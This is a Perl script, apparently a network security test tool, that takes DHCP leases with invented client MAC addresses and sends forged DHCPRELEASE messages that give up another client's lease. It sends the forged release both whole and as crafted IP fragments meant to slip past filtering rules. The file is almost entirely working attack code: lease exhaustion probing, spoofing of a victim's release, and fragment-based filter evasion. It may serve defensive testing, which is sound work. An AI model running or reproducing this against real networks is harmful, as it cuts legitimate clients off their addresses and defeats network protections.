# Takes leases with invented client addresses, or gives up those of another client.
#
#   dhcp.pl take NUMBER GATEWAY-MAC SERVER         takes leases, reports their addresses, and gives them back
#   dhcp.pl release MAC ADDRESS GATEWAY-MAC SERVER [CLIENT-ID]     a forged DHCPRELEASE (RFC 2131)
require(($0 =~ m{^(/.*)/})[0] . '/common.pl');
use strict;
use warnings;

my ($mode, @rest) = @ARGV;
my ($socket, $send) = frames();
my $own = own_mac();
my $own_address = (`ip -4 -o address show dev eth0` =~ /inet ([\d.]+)/)[0] // '0.0.0.0';

sub message {
    my ($client, $transaction, $kind, $address, @options) = @_;
    my $options = join '', pack('C C C', 53, 1, $kind), @options, "\xff";
    # The flag asks for a broadcast, because the answer must not go to the invented address.
    return pack('C C C C N n n a4 a4 a4 a4 a16 a64 a128 N', 1, 1, 6, 0, $transaction, 0, 0x8000, $address, '', '', '',
        $client, '', '', 0x63825363) . $options . "\0" x 60;
}

sub from_nobody {
    my ($payload) = @_;
    return ethernet("\xff" x 6, $own, 0x0800, ipv4('0.0.0.0', '255.255.255.255', 17, udp(68, 67, $payload)));
}

# The address that the server offers or grants to this transaction, or undef.
sub answer {
    my ($transaction, $kind) = @_;
    my $end = time + 1;
    while (time <= $end) {
        vec(my $wanted = '', fileno $socket, 1) = 1;
        next unless select $wanted, undef, undef, 0.1;
        recv $socket, my $frame, 2048, 0;
        next unless length $frame > 14 + 28 + 243;
        next unless substr($frame, 12, 2) eq "\x08\0" && substr($frame, 34, 2) eq "\0\x43";
        my $reply = substr $frame, 42;
        next unless unpack('N', substr $reply, 4, 4) == $transaction;
        next unless index(substr($reply, 240), pack 'C C C', 53, 1, $kind) >= 0;
        return substr $reply, 16, 4;
    }
    return undef;
}

# A packet in two fragments (RFC 791), of which the first ends before the client's address.
sub fragments {
    my ($packet) = @_;
    my $payload = substr $packet, 20;
    return map {
        my ($flags, $part) = @$_;
        my $header = substr($packet, 0, 2) . pack('n n n', 20 + length $part, 4712, $flags) . substr($packet, 8, 2);
        my $addresses = substr $packet, 12, 8;
        $header . pack('n', checksum("$header\0\0$addresses")) . $addresses . $part;
    } [0x2000, substr $payload, 0, 32], [4, substr $payload, 32];
}

# Sends it whole and in fragments.
sub release {
    my ($client, $address, $gateway, $server, $id) = @_;
    my @id = defined $id ? pack('C C/a*', 61, pack 'H*', $id =~ s/://gr) : ();
    my $payload = message($client, 99, 7, $address, pack('C C a4', 54, 4, inet_aton($server)), @id);
    my $packet = ipv4($own_address, $server, 17, udp(68, 67, $payload));
    $send->(ethernet(mac($gateway), $own, 0x0800, $packet));
    # Not by ethernet(): a rule would read the padding after the first fragment as the client's address.
    $send->(pack 'a6 a6 n a*', mac($gateway), $own, 0x0800, $_) for fragments($packet);
}

if ($mode eq 'take') {
    my ($number, $gateway, $server) = @rest;
    my @leases;
    for my $n (1 .. $number) {
        my $client = pack 'H4 N', '0216', 0x3e000000 + $$ * 1000 + $n;
        $send->(from_nobody(message($client, $n, 1, '')));
        my $offered = answer($n, 2);
        # The first three say whether the server answers strangers at all.
        last if !defined $offered && $n >= 3 && !@leases;
        next unless defined $offered;
        my @chosen = (pack('C C a4', 50, 4, $offered), pack 'C C a4', 54, 4, inet_aton($server));
        $send->(from_nobody(message($client, $n, 3, '', @chosen)));
        push @leases, [$client, $offered] if defined answer($n, 5);
    }
    report(leases => [map { inet_ntoa($_->[1]) } @leases]);
    release($_->[0], $_->[1], $gateway, $server) for @leases;
} else {
    my ($victim, $address, $gateway, $server, $id) = @rest;
    release(mac($victim), inet_aton($address), $gateway, $server, $id);
    report(sent => 1);
}
